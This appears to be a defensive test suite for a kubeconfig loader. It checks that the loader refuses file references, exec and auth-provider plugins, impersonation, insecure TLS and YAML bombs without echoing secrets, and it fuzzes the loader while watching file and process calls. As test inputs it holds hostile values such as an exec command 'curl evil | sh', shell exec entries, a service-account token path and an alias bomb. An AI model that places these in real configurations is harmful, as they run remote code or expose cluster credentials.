/**
 * Kubeconfigs from Secrets are self-contained: every field that names a local file or runs code is refused in every
 * spelling and in every entry (not only the current context's), the rest is decided by an allow-list, insecure
 * connections need an opt-in, and no refusal echoes a value. A fuzz property runs the loader over hostile documents
 * with fs and child_process watched: it never reads a file, never starts a process, never throws.
 */

import { mkdtempSync, writeFileSync } from "node:fs"
import { createRequire, syncBuiltinESMExports } from "node:module"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { assert, describe, it } from "@effect/vitest"
import { Effect, Exit, Layer, Result } from "effect"
import fc from "fast-check"
import { dump } from "js-yaml"
import { KubeApi } from "../../../src/effects/KubeApi.ts"
import { layerLive } from "../../../src/effects/kube/clients.ts"
import { checkSecretKubeconfig, loadSecretKubeconfig } from "../../../src/effects/kube/secretKubeconfig.ts"
import { RUNS } from "../../fixtures/arbitraries.ts"

const TOKEN = "s3cr3t-t0ken-value"
const PEM = Buffer.from("-----BEGIN CERTIFICATE-----\nMIIBfake\n-----END CERTIFICATE-----\n").toString("base64")
const SA_TOKEN_PATH = "/var/run/secrets/kubernetes.io/serviceaccount/token"

interface Doc {
  clusters: Array<{ name: string; cluster: Record<string, unknown> }>
  users: Array<{ name: string; user: Record<string, unknown> | null }>
  contexts: Array<{ name: string; context: Record<string, unknown> }>
  "current-context": string
  [key: string]: unknown
}

/** A valid kubeconfig with a second, unused context ("spare") whose entries the cases poison. */
const base = (): Doc => ({
  apiVersion: "v1",
  kind: "Config",
  "current-context": "remote",
  clusters: [
    { name: "remote", cluster: { server: "https://127.0.0.1:6443", "certificate-authority-data": PEM } },
    { name: "spare", cluster: { server: "https://10.0.0.1:6443" } }
  ],
  users: [
    { name: "operator", user: { token: TOKEN } },
    { name: "spare", user: { token: TOKEN } }
  ],
  contexts: [
    { name: "remote", context: { cluster: "remote", user: "operator" } },
    { name: "spare", context: { cluster: "spare", user: "spare" } }
  ]
})

const yamlOf = (doc: unknown) => dump(doc)
const withSpareUser = (user: Record<string, unknown>) => {
  const d = base()
  d.users[1]!.user = user
  return d
}
const withSpareCluster = (fields: Record<string, unknown>) => {
  const d = base()
  d.clusters[1]!.cluster = { ...d.clusters[1]!.cluster, ...fields }
  return d
}

const refusedCases = [
  ...["token-file", "tokenFile", "tokenfile", "client-certificate", "client-key"].map((field) => ({
    name: `User${field}IsAFileReference`,
    doc: withSpareUser({ [field]: SA_TOKEN_PATH }),
    tag: "FileReferenceRejected",
    mentions: [`users[1] ("spare").user.${field}`, "local file"]
  })),
  {
    name: "ClusterCertificateAuthorityIsAFileReference",
    doc: withSpareCluster({ "certificate-authority": "/etc/ca.pem" }),
    tag: "FileReferenceRejected",
    mentions: ['clusters[1] ("spare").cluster.certificate-authority']
  },
  {
    name: "ExecUserIsCode",
    doc: withSpareUser({ exec: { apiVersion: "client.authentication.k8s.io/v1", command: "/bin/sh" } }),
    tag: "ExecAuthRejected",
    mentions: ['users[1] ("spare").user.exec']
  },
  {
    name: "AuthProviderUserIsCode",
    doc: withSpareUser({ "auth-provider": { name: "gcp", config: { "cmd-path": "/bin/sh" } } }),
    tag: "ExecAuthRejected",
    mentions: ["auth-provider"]
  },
  {
    name: "ImpersonationIsNotSupported",
    doc: withSpareUser({ token: TOKEN, as: "system:admin" }),
    tag: "UnsupportedField",
    mentions: ['users[1] ("spare").user.as']
  },
  {
    name: "UnknownTopLevelFieldIsRefused",
    doc: { ...base(), "kubeconfig-file": "/etc/other" },
    tag: "UnsupportedField",
    mentions: ["kubeconfig-file"]
  },
  {
    name: "PlainHttpServerIsInsecure",
    doc: withSpareCluster({ server: "http://10.0.0.1:8080" }),
    tag: "InsecureConnectionRejected",
    mentions: ['clusters[1] ("spare").cluster', "in clear"]
  },
  {
    name: "SkipTlsVerifyIsInsecure",
    doc: withSpareCluster({ "insecure-skip-tls-verify": true }),
    tag: "InsecureConnectionRejected",
    mentions: ["insecure-skip-tls-verify"]
  },
  {
    name: "ProxySchemeMustBeSupported",
    doc: withSpareCluster({ "proxy-url": `socks4://user:${TOKEN}@proxy:1080` }),
    tag: "InvalidKubeconfig",
    mentions: ["proxy-url: scheme is not supported"]
  },
  {
    name: "ServerUrlWithCredentials",
    doc: withSpareCluster({ server: `https://admin:${TOKEN}@10.0.0.1` }),
    tag: "InvalidKubeconfig",
    mentions: ["must not carry credentials"]
  },
  {
    name: "CaDataMustBeBase64Pem",
    doc: withSpareCluster({ "certificate-authority-data": Buffer.from(TOKEN).toString("base64") }),
    tag: "InvalidKubeconfig",
    mentions: ["certificate-authority-data is not PEM"]
  },
  {
    name: "KeyWithoutCertificate",
    doc: withSpareUser({ "client-key-data": PEM }),
    tag: "InvalidKubeconfig",
    mentions: ["go together"]
  },
  {
    name: "TokenOfTheWrongType",
    doc: withSpareUser({ token: 42 }),
    tag: "InvalidKubeconfig",
    mentions: ['users[1] ("spare").user.token has the wrong type']
  },
  {
    name: "CurrentContextMissing",
    doc: { ...base(), "current-context": "elsewhere" },
    tag: "InvalidKubeconfig",
    mentions: ['context "elsewhere" not found']
  }
] as const

describe("Secret kubeconfigs: refusals", () => {
  it.each(refusedCases)("$name", ({ doc, tag, mentions }) => {
    const checked = checkSecretKubeconfig(yamlOf(doc))
    assert.isTrue(Result.isFailure(checked))
    if (!Result.isFailure(checked)) return
    const error = checked.failure
    assert.strictEqual(error.reason._tag, tag)
    for (const m of mentions) assert.include(error.message, m)
    for (const secret of [TOKEN, SA_TOKEN_PATH, "/etc/ca.pem", "/bin/sh", PEM]) assert.notInclude(error.message, secret)
  })

  it("a file reference inside an allowed auth-provider's config is still refused", () => {
    const doc = withSpareUser({ "auth-provider": { name: "oidc", config: { tokenFile: SA_TOKEN_PATH } } })
    const checked = checkSecretKubeconfig(yamlOf(doc), { allowExecAuth: true })
    assert.isTrue(Result.isFailure(checked) && checked.failure.reason._tag === "FileReferenceRejected")
  })

  it("YAML that is not valid names the line, not the text", () => {
    const checked = checkSecretKubeconfig(`users:\n- name: x\n  user:\n    token: ${TOKEN}\n   bad: [unclosed`)
    assert.isTrue(Result.isFailure(checked))
    if (Result.isFailure(checked)) {
      assert.include(checked.failure.message, "not valid YAML")
      assert.include(checked.failure.message, "line ")
      assert.notInclude(checked.failure.message, TOKEN)
    }
  })

  it("limits: an alias bomb, deep nesting and an oversized document are refused quickly", () => {
    const bomb = ["a: &a [x, x, x, x, x, x, x, x, x, x]"]
    for (let i = 1; i < 9; i++)
      bomb.push(
        `${"abcdefghij"[i]}: &${"abcdefghij"[i]} [${Array(10)
          .fill(`*${"abcdefghij"[i - 1]}`)
          .join(", ")}]`
      )
    const deep = `${"[".repeat(500)}${"]".repeat(500)}`
    const large = `clusters: []\n# ${"x".repeat(1024 * 1024)}\n`
    for (const text of [bomb.join("\n"), deep, large]) {
      const started = performance.now()
      const checked = checkSecretKubeconfig(text)
      assert.isTrue(Result.isFailure(checked) && checked.failure.reason._tag === "InvalidKubeconfig")
      assert.isBelow(performance.now() - started, 2_000)
    }
  })
})

describe("Secret kubeconfigs: what loads", () => {
  it.effect("a bearer token over https with inline CA data", () =>
    Effect.gen(function* () {
      const access = yield* loadSecretKubeconfig(yamlOf(base()))
      assert.strictEqual(access.server, "https://127.0.0.1:6443")
      const credentials = yield* Effect.promise(() => access.credentials())
      assert.deepStrictEqual(credentials.headers, { Authorization: `Bearer ${TOKEN}` })
      assert.include(String(credentials.tls.ca), "BEGIN CERTIFICATE")
      assert.strictEqual(credentials.tls.rejectUnauthorized, true)
    })
  )

  it.effect("basic auth, client certificates, tls-server-name, a context chosen by option", () =>
    Effect.gen(function* () {
      const doc = base()
      doc.users[1]!.user = { username: "alice", password: "pw", "client-certificate-data": PEM, "client-key-data": PEM }
      doc.clusters[1]!.cluster["tls-server-name"] = "api.internal"
      const access = yield* loadSecretKubeconfig(yamlOf(doc), { context: "spare" })
      const credentials = yield* Effect.promise(() => access.credentials())
      assert.strictEqual(credentials.headers.Authorization, `Basic ${Buffer.from("alice:pw").toString("base64")}`)
      assert.include(String(credentials.tls.cert), "BEGIN CERTIFICATE")
      assert.strictEqual(credentials.tls.servername, "api.internal")
    })
  )

  it("http:// and insecure-skip-tls-verify load with allowInsecure", () => {
    const doc = withSpareCluster({ server: "http://10.0.0.1:8080", "insecure-skip-tls-verify": true })
    assert.isTrue(Result.isSuccess(checkSecretKubeconfig(yamlOf(doc), { allowInsecure: true })))
  })

  it("kubectl's usual extras (preferences, extensions, namespace, disable-compression) are accepted", () => {
    const doc = base()
    doc.preferences = {}
    doc.extensions = [{ name: "x", extension: { a: 1 } }]
    doc.contexts[0]!.context.namespace = "team-a"
    doc.clusters[0]!.cluster["disable-compression"] = true
    assert.isTrue(Result.isSuccess(checkSecretKubeconfig(yamlOf(doc))))
  })

  it.effect("KubeApi.layerLive fails to build for an exec kubeconfig, naming the entry but no secret", () =>
    Effect.gen(function* () {
      const layer = layerLive(
        yamlOf(withSpareUser({ exec: { command: "curl evil | sh", apiVersion: "client.authentication.k8s.io/v1" } }))
      )
      const error = yield* Effect.flip(Layer.build(layer))
      assert.strictEqual(error._tag, "KubeconfigError")
      assert.strictEqual(error.reason._tag, "ExecAuthRejected")
      assert.notInclude(error.message, TOKEN)
      assert.notInclude(error.message, "curl evil")
    })
  )

  it.effect("with allowExecAuth, an exec user elsewhere in the file does not stop a token context from loading", () =>
    Effect.gen(function* () {
      const api = yield* KubeApi
      assert.isFunction(api.get)
    }).pipe(
      Effect.provide(
        layerLive(
          yamlOf(withSpareUser({ exec: { command: "/bin/false", apiVersion: "client.authentication.k8s.io/v1" } })),
          { allowExecAuth: true }
        )
      )
    )
  )
})

/** Records calls into fs and child_process made from the project's code while `body` runs. */
const watchingIo = async <A>(
  body: () => Promise<A>
): Promise<{ readonly result: A; readonly calls: Array<string> }> => {
  const require = createRequire(import.meta.url)
  const modules = { fs: require("node:fs"), fsp: require("node:fs/promises"), cp: require("node:child_process") }
  const names = {
    fs: [
      "readFile",
      "readFileSync",
      "open",
      "openSync",
      "createReadStream",
      "readSync",
      "read",
      "existsSync",
      "accessSync"
    ],
    fsp: ["readFile", "open"],
    cp: ["spawn", "spawnSync", "exec", "execSync", "execFile", "execFileSync", "fork"]
  } as const
  const calls: Array<string> = []
  const restore: Array<() => void> = []
  for (const [m, fns] of Object.entries(names) as Array<[keyof typeof modules, ReadonlyArray<string>]>) {
    const mod = modules[m]
    for (const fn of fns) {
      const original = mod[fn]
      mod[fn] = function (this: unknown, ...args: Array<unknown>) {
        const stack = new Error().stack ?? ""
        if (stack.includes("/src/") || stack.includes("@kubernetes")) calls.push(`${m}.${fn}(${String(args[0])})`)
        return original.apply(this, args)
      }
      restore.push(() => {
        mod[fn] = original
      })
    }
  }
  syncBuiltinESMExports()
  try {
    return { result: await body(), calls }
  } finally {
    for (const r of restore) r()
    syncBuiltinESMExports()
  }
}

describe("Secret kubeconfigs: fuzz", () => {
  const dir = mkdtempSync(join(tmpdir(), "kubeconfig-fuzz-"))
  const canary = `canary-${Math.random().toString(36).slice(2)}`
  const canaryFile = join(dir, "token")
  writeFileSync(canaryFile, canary)
  const marker = join(dir, "ran")

  const hostileUserField = fc.constantFrom(
    ["token-file", canaryFile],
    ["tokenFile", canaryFile],
    ["client-certificate", canaryFile],
    ["client-key", canaryFile],
    ["exec", { command: "/bin/sh", args: ["-c", `echo > ${marker}`], apiVersion: "client.authentication.k8s.io/v1" }],
    ["auth-provider", { name: "gcp", config: { "cmd-path": `/bin/touch ${marker}`, tokenFile: canaryFile } }],
    ["auth-provider", { name: "azure", config: {} }],
    ["as", "system:admin"]
  )
  const hostileClusterField = fc.constantFrom(
    ["certificate-authority", canaryFile],
    ["server", "http://127.0.0.1:1"],
    ["insecure-skip-tls-verify", true],
    ["proxy-url", "socks4://127.0.0.1:1"],
    ["server", `file://${canaryFile}`]
  )
  const junk = fc.oneof(
    fc.string(),
    fc.integer(),
    fc.boolean(),
    fc.constant(null),
    fc.dictionary(fc.string(), fc.string())
  )
  const doc = fc
    .record({
      user: fc.integer({ min: 0, max: 1 }),
      userField: fc.option(hostileUserField),
      cluster: fc.integer({ min: 0, max: 1 }),
      clusterField: fc.option(hostileClusterField),
      extraKey: fc.option(fc.tuple(fc.string(), junk)),
      raw: fc.option(fc.string())
    })
    .map(({ user, userField, cluster, clusterField, extraKey, raw }) => {
      if (raw !== null) return raw
      const d = base()
      if (userField !== null) d.users[user]!.user = { ...d.users[user]!.user, [userField[0] as string]: userField[1] }
      if (clusterField !== null)
        d.clusters[cluster]!.cluster = { ...d.clusters[cluster]!.cluster, [clusterField[0] as string]: clusterField[1] }
      if (extraKey !== null) (d as Record<string, unknown>)[extraKey[0]] = extraKey[1]
      return yamlOf(d)
    })

  it("never reads a file, never starts a process, never throws; refusals are typed and echo nothing", async () => {
    const { calls } = await watchingIo(() =>
      fc.assert(
        fc.asyncProperty(doc, fc.boolean(), async (text, allowInsecure) => {
          const exit = await Effect.runPromiseExit(
            Effect.flatMap(loadSecretKubeconfig(text, { allowInsecure }), (access) =>
              Effect.promise(() => access.credentials())
            )
          )
          if (Exit.isSuccess(exit)) {
            assert.notInclude(JSON.stringify(exit.value), canary)
          } else {
            const failure = exit.cause.reasons[0]
            assert.strictEqual(failure?._tag, "Fail", "only typed failures, never a defect")
            if (failure?._tag === "Fail") {
              assert.strictEqual((failure.error as { _tag: string })._tag, "KubeconfigError")
              const message = (failure.error as Error).message
              for (const secret of [TOKEN, canary, canaryFile]) assert.notInclude(message, secret)
            }
          }
        }),
        { numRuns: RUNS }
      )
    )
    assert.deepStrictEqual(calls, [])
    assert.isFalse(createRequire(import.meta.url)("node:fs").existsSync(marker), "no exec plugin ran")
  })
})
